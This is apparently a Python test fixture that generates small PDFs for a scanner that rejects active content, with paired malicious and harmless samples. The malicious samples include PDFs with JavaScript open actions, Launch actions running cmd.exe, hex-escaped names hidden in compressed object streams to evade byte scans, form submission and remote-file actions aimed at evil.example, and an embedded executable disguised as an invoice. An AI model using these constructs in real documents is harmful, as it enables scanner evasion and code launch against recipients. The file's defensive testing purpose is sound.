"""Small hand-made PDFs for the active-content check: one page, plus whatever a test puts in
the catalog, the page or extra objects (numbered from 4), written with a classic
cross-reference table or with the extra objects inside a compressed object stream (PDF 1.5),
where a scan of the raw bytes cannot see them."""

from __future__ import annotations

import io
import zlib


def pdf(
    *, catalog: bytes = b"", page: bytes = b"", objects: tuple[bytes, ...] = (), packed=False
) -> bytes:
    plain = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + page + b" >>",
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}

    def put(number: int, body: bytes) -> None:
        offsets[number] = len(out)
        out.extend(b"%d 0 obj\n" % number + body + b"\nendobj\n")

    for number, body in enumerate(plain, start=1):
        put(number, body)
    if not packed:
        for number, body in enumerate(objects, start=4):
            put(number, body)
        size = 4 + len(objects)
        xref = len(out)
        out.extend(b"xref\n0 %d\n0000000000 65535 f \n" % size)
        for number in range(1, size):
            out.extend(b"%010d 00000 n \n" % offsets[number])
        out.extend(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, xref))
        return bytes(out)
    # the extra objects in one object stream, the cross-reference in a stream
    header, bodies = b"", b""
    for number, body in enumerate(objects, start=4):
        header += b"%d %d " % (number, len(bodies))
        bodies += body + b"\n"
    packed_objects = zlib.compress(header + bodies)
    stream_number = 4 + len(objects)
    put(
        stream_number,
        b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(objects), len(header), len(packed_objects))
        + packed_objects
        + b"\nendstream",
    )
    xref_number = stream_number + 1
    offsets[xref_number] = len(out)
    rows = [b"\x00" + (0).to_bytes(4, "big") + (65535).to_bytes(2, "big")]
    for number in range(1, xref_number + 1):
        if 4 <= number < stream_number:
            index = number - 4
            rows.append(b"\x02" + stream_number.to_bytes(4, "big") + index.to_bytes(2, "big"))
        else:
            rows.append(b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00")
    table = b"".join(rows)
    out.extend(
        b"%d 0 obj\n<< /Type /XRef /Size %d /Root 1 0 R /W [1 4 2] /Length %d >>\nstream\n"
        % (xref_number, xref_number + 1, len(table))
        + table
        + b"\nendstream\nendobj\n"
    )
    out.extend(b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number])
    return bytes(out)


def with_attachment(name: str, data: bytes) -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.add_attachment(name, data)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
# every way an active PDF came to us, with the word its refusal names
ACTIVE = {
    "open_action_js": (pdf(catalog=b"/OpenAction 4 0 R", objects=(JS,)), "JavaScript"),
    "launch": (
        pdf(catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
        "launch action",
    ),
    "page_aa_js": (pdf(page=b"/AA << /O 4 0 R >>", objects=(JS,)), "JavaScript"),
    "names_js": (
        pdf(
            catalog=b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>",
            objects=(JS,),
        ),
        "JavaScript",
    ),
    # in a compressed object stream, the names hex-escaped: only a parser sees them
    "packed_escaped_js": (
        pdf(
            catalog=b"/OpenAction 4 0 R",
            objects=(b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",),
            packed=True,
        ),
        "JavaScript",
    ),
    "packed_launch_link": (
        pdf(
            page=b"/Annots [4 0 R]",
            objects=(
                b"<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /Launch "
                b"/F (calc.exe) >> >>",
            ),
            packed=True,
        ),
        "launch action",
    ),
    "remote_goto": (
        pdf(catalog=b"/OpenAction << /S /GoToR /F (//evil.example/share/a.pdf) /D [0 /Fit] >>"),
        "another file",
    ),
    "submit_form": (
        pdf(catalog=b"/OpenAction << /S /SubmitForm /F (https://evil.example/) >>"),
        "submits",
    ),
    "xfa": (pdf(catalog=b"/AcroForm << /Fields [] /XFA 4 0 R >>", objects=(b"[]",)), "XFA"),
    "embedded_exe": (with_attachment("invoice.exe", b"MZ\x90\x00" + b"\x00" * 60), "embedded"),
}
# harmless: opening at a page, a web link, an XML attachment (as Factur-X carries)
PASSIVE = {
    "open_action_goto": pdf(catalog=b"/OpenAction [3 0 R /Fit]"),
    "uri_link": pdf(
        page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] "
        b"/A << /S /URI /URI (https://contoso.example/) >> >>]"
    ),
    "packed_plain": pdf(catalog=b"/OpenAction 4 0 R", objects=(b"[3 0 R /Fit]",), packed=True),
    "xml_attachment": with_attachment("factur-x.xml", b"<?xml version='1.0'?><rsm:x/>"),
}
